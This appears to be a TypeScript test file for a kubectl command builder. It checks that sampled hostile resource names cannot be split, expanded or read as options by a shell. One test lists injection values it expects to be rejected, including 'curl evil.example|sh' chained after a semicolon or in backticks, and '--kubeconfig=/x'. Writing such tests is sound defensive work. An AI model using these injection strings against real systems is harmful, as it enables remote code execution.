import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { test } from 'node:test';
import { type Command, kubectl, listOf } from '../../src/model/command.ts';
import { refOf } from '../../src/model/ref.ts';
import { fc } from '../fast-check.ts';
import { hostileName, linesWith } from './hostile-names.ts';

/** The words that a shell hands to a program for each of the lines. Whatever else it did would be printed, or fail. */
function wordsIn(shell: string, lines: readonly Command[]): readonly (readonly string[])[] {
  const program = (name: string): string => `${name}() { printf '%s\\t' ${name} "$@"; printf '\\n'; }`;
  const input = ['set -u', program('kubectl'), program('tocsin'), ...lines].join('\n');
  const { status, stdout, stderr } = spawnSync(shell, [], { input, encoding: 'utf8', env: {}, maxBuffer: 64 << 20 });
  assert.equal(`${status} ${stderr}`, '0 ');
  return stdout
    .split('\n')
    .slice(0, -1)
    .map((line) => line.split('\t').slice(0, -1));
}

test('of 10,000 hostile names none makes a line that a shell would split, expand or take for options', () => {
  const names = fc.sample(hostileName, { numRuns: 10_000 });
  const lines = names.flatMap((name) => linesWith(name).filter((line) => line !== undefined));
  assert.ok(lines.length > 5_000, `only ${lines.length} lines`);
  for (const line of lines) {
    assert.match(line, /^(?:kubectl|tocsin) [ -_a-~]+$/);
    // Outside of its quotes there is nothing that any shell looks for, but for the one pipe of ours.
    const bare = line.replace(/ \| base64 -d \| openssl x509 [a-z -]+$/, '').replace(/'[^']*'/g, 'x');
    assert.match(bare, /^[\w.:/,+= -]+$/);
  }
  const simple = lines.filter((line) => !line.includes('|'));
  for (const [index, words] of wordsIn('sh', simple).entries()) {
    const line = simple[index] ?? '';
    assert.equal(words.length, line.replace(/'[^']*'/g, 'x').split(' ').length, line);
    assert.equal(words.join(' '), line.replaceAll("'", ''), line);
  }
});

test('what Kubernetes takes as a name is named, and what it does not take makes no command', () => {
  assert.equal(kubectl('describe', 'Deployment/shop/api'), 'kubectl describe deployment api -n shop');
  assert.equal(kubectl('get', 'ClusterRole//system:node', '-o', 'yaml'), 'kubectl get clusterrole system:node -o yaml');
  assert.equal(kubectl('logs', 'Pod/shop/api', '-c', 'app'), 'kubectl logs api -n shop -c app');
  assert.equal(
    kubectl('describe', 'StatefulSet.apps.kruise.io/shop/db'),
    'kubectl describe statefulset.apps.kruise.io db -n shop',
  );
  for (const name of ['pv;curl evil.example|sh', 'x`;curl evil.sh|sh;`', '-o', '', 'a b', 'a\nb', '--kubeconfig=/x'])
    assert.equal(kubectl('get', refOf('PersistentVolume', '', name)), undefined, name);
});

test('a selector and a path are quoted as one word', () => {
  assert.equal(
    kubectl('get', listOf('pods', 'shop'), '-l', 'tier in (front,back),!old', '-o', 'jsonpath={.items[*].spec}'),
    "kubectl get pods -n shop -l 'tier in (front,back),!old' -o 'jsonpath={.items[*].spec}'",
  );
  assert.equal(kubectl('get', listOf('pods', 'shop'), '-l', "a='b"), undefined);
});
